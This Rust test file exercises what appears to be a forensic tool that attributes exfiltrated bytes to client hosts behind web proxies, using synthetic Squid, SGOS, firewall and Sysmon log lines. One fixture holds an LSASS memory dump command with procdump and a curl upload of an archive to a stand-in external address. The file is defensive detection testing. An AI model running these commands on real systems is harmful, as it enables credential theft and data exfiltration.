//! What a proxy puts on the wire is its client's, once, where nobody else asked for that destination.

use serde_json::{Value, json};

use crate::verdict::{Told, cites, scan, scan_with_transfers};

const CLIENT: &str = "10.2.0.5";
const PROXY: &str = "10.2.0.9";
const BYTES: u64 = 1_500_000_000;
/// Those without what may be sent around the data of one session and one request.
const LEAST: u64 = (BYTES - 2 * 8192) / 8 * 7;

fn scopes(role: &str) -> String {
    format!(
        "timezone='UTC'\n[[scope]]\nname='hc'\ncidr=['10.2.0.0/16']\nhosts=['hc-*']\naccounts=['HC']\n[[host]]\nname='hc-fs01'\n\
         ip=['{CLIENT}']\n[[host]]\nname='hc-px'\nip=['{PROXY}']\nrole='{role}'\n"
    )
}

/// A line of a firewall of the 28th of March 2026, at a time in hours and minutes.
fn edge(at: (u32, u32), from: &str, sent: u64) -> String {
    format!(
        "date=2026-03-28 time={:02}:{:02}:00 devname=\"fw\" logid=\"0000000013\" type=\"traffic\" subtype=\"forward\" tz=\"+0000\" \
         srcip={from} srcport=51514 dstip=198.51.100.7 dstport=443 proto=6 action=\"close\" service=\"tcp\" sentbyte={sent} \
         rcvdbyte=900\n",
        at.0, at.1
    )
}

/// A line of Squid's, which does not say how much was sent.
fn asked(at: (u32, u32), client: &str, host: &str) -> String {
    let seconds = 1_774_656_000 + at.0 * 3600 + at.1 * 60;
    format!("{seconds}.000 900 {client} TCP_TUNNEL/200 9000 CONNECT {host}:443 - HIER_DIRECT/198.51.100.7 -\n")
}

/// What Squid's log of a day has, with these lines among it.
fn squid(more: &[String]) -> String {
    let mut lines = vec![asked((0, 0), "10.2.0.30", "www.example"), asked((23, 59), "10.2.0.30", "www.example")];
    lines.extend(more.iter().cloned());
    lines.sort();
    lines.concat().replace("www.example:443 - HIER_DIRECT/198.51.100.7", "www.example:443 - HIER_DIRECT/203.0.113.80")
}

/// At least how many bytes each host sent to the destination.
fn sent(transfers: &[Value], to: &str) -> Vec<(String, u64)> {
    let its = transfers.iter().filter(|t| t["to"] == to);
    its.map(|t| (t["from"].as_str().unwrap().to_owned(), t["bytes"]["lower"].as_u64().unwrap())).collect()
}

fn of(role: &str, more: &[String]) -> Vec<(String, u64)> {
    of_bytes(role, more, BYTES)
}

fn of_bytes(role: &str, more: &[String], bytes: u64) -> Vec<(String, u64)> {
    let log = squid(&[&[asked((22, 40), CLIENT, "drop.example")], more].concat());
    let files = [("access.log", log), ("fw.log", edge((22, 41), PROXY, bytes))];
    sent(&scan_with_transfers(&files, &scopes(role)).1, "drop.example")
}

#[test]
fn what_a_proxy_sent_for_the_only_one_who_asked_is_that_ones_once() {
    let told = |client, proxy| vec![("hc-fs01".to_owned(), client), ("hc-px".to_owned(), proxy)];
    assert_eq!(of("web proxy", &[]), told(LEAST, 0));
    for more in 1..8 {
        assert_eq!(of_bytes("web proxy", &[], BYTES + more), told(LEAST + more, 0), "once, whatever it comes to");
    }
    assert_eq!(
        of("web proxy", &[asked((9, 0), "10.2.0.30", "drop.example")])[1..],
        told(LEAST, 0),
        "asked hours before"
    );
    assert_eq!(of("file server", &[]), told(0, BYTES), "not known as a proxy");
    let other = of("web proxy", &[asked((22, 0), "10.2.0.30", "drop.example")]);
    assert_eq!(other[1..], told(0, BYTES), "whose of two it is cannot be told");
    let short = [("access.log", asked((22, 40), CLIENT, "drop.example")), ("fw.log", edge((22, 41), PROXY, BYTES))];
    let short = sent(&scan_with_transfers(&short, &scopes("web proxy")).1, "drop.example");
    assert_eq!(short, told(0, BYTES), "the proxy's log ends before");
}

/// A line of a proxy that says how much was sent.
fn counted(client: &str, host: &str, sent: u64) -> String {
    format!("2026-03-28 22:40:00 600000 {client} - TCP_TUNNELED 200 CONNECT tcp {host} 443 / 9000 {sent}\n")
}

#[test]
fn a_name_without_an_address_and_an_address_without_a_name_are_one_where_only_they_fit() {
    let told = |role: &str, more: &str| {
        let head = "#Software: SGOS 6.7\n#Version: 1.0\n#Fields: date time time-taken c-ip cs-username s-action sc-status cs-method \
                    cs-uri-scheme cs-host cs-uri-port cs-uri-path sc-bytes cs-bytes\n";
        let log = format!("{head}{}{more}", counted(CLIENT, "drop.example", BYTES));
        let files = [("proxy.log", log), ("fw.log", edge((22, 41), PROXY, BYTES))];
        sent(&scan_with_transfers(&files, &scopes(role)).1, "198.51.100.7")[0].1
    };
    assert_eq!(told("proxy", ""), 0);
    assert_eq!(told("proxy", &counted("10.2.0.30", "www.example", 90_000)), 0, "another one sent little");
    assert_eq!(told("proxy", &counted("10.2.0.30", "www.example", BYTES)), BYTES, "which of two it was cannot be told");
    assert_eq!(told("file server", ""), BYTES);
}

/// The memory of the logon process is dumped, and a file sent to the address.
fn dumped() -> String {
    let run = |at: &str, image: &str, command: &str| {
        let data =
            json!({"Image": image, "CommandLine": command, "ParentImage": r"C:\Windows\cmd.exe", "User": r"HC\j.doe"});
        let winlog = json!({"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1, "computer_name": "hc-fs01",
            "event_data": data});
        format!("{}\n", json!({"@timestamp": format!("2026-03-28T{at}:00.000Z"), "winlog": winlog}))
    };
    run("22:00", r"C:\t\procdump64.exe", r"procdump64.exe -ma lsass.exe C:\t\o.dmp")
        + &run("22:30", r"C:\Windows\System32\curl.exe", "curl.exe -T s.7z https://198.51.100.7/in/")
}

#[test]
fn an_upload_by_a_proxy_after_a_dump_left_once_with_its_bytes() {
    let told = |role: &str| -> Told {
        let log = squid(&[asked((22, 40), CLIENT, "198.51.100.7")]);
        let files = [("sysmon.json", dumped()), ("access.log", log), ("fw.log", edge((22, 41), PROXY, BYTES))];
        scan(&files, &scopes(role), "")
    };
    let once = told("proxy");
    let way = once.route("hc", "https_upload");
    assert_eq!((&way["state"], &way["bytes"]["lower"]), (&json!("exfiltrated"), &json!(LEAST)));
    assert!(cites(once.scope("hc"), "J-11") && !cites(once.scope("hc"), "J-20") && !cites(once.scope("hc"), "J-17"));
    let unknown = told("file server");
    assert!(cites(unknown.scope("hc"), "J-17") && cites(unknown.scope("hc"), "J-20"), "not known as a proxy");
}

/// What is told where the proxy is another scope's, shared, and its log has these lines alone.
fn of_shared(log: &str) -> (Told, Vec<(String, u64)>) {
    let scopes = format!(
        "timezone='UTC'\n[[scope]]\nname='hc'\ncidr=['10.2.0.0/16']\nhosts=['hc-*']\naccounts=['HC']\n[[scope]]\nname='it'\n\
         shared=true\nprocessor_of=['hc']\ncidr=['10.9.0.0/16']\n[[host]]\nname='hc-fs01'\nip=['{CLIENT}']\n[[host]]\n\
         name='it-px'\nip=['10.9.0.9']\nrole='proxy'\nscope='it'\n"
    );
    let files = [
        ("sysmon.json", dumped().lines().take(1).collect()),
        ("access.log", log.to_owned()),
        ("fw.log", edge((22, 41), "10.9.0.9", BYTES) + &edge((22, 59), "10.9.0.9", BYTES)),
    ];
    let (told, transfers) = scan_with_transfers(&files, &scopes);
    (told, sent(&transfers, "drop.example"))
}

#[test]
fn a_shared_proxy_s_bytes_are_the_only_client_s_and_its_log_need_not_hold_more() {
    let both = asked((22, 41), CLIENT, "drop.example") + &asked((22, 59), CLIENT, "drop.example");
    let (told, sent) = of_shared(&both);
    let least = sent[0].1;
    assert!((2 * LEAST - 8 * 8192..=2 * LEAST).contains(&least), "{sent:?}");
    assert_eq!(sent, [("hc-fs01".to_owned(), least), ("it-px".to_owned(), 0)], "twice is once");
    assert_eq!(told.scope("hc")["state"], "exfiltrated");
    assert!(!cites(told.scope("it"), "J-20"), "the proxy sent nothing of its own");
}

#[test]
fn what_an_intruder_s_host_asked_a_proxy_for_leaves_its_way_open_where_nothing_says_how_much() {
    let mixed = asked((22, 41), CLIENT, "drop.example") + &asked((22, 59), "10.2.0.30", "drop.example");
    let (told, _) = of_shared(&mixed);
    let way = told.route("hc", "https_upload");
    assert_eq!((&way["state"], &way["bytes"]["upper"]), (&json!("cannot_tell"), &Value::Null));
    assert!(cites(told.scope("hc"), "J-35"));
}
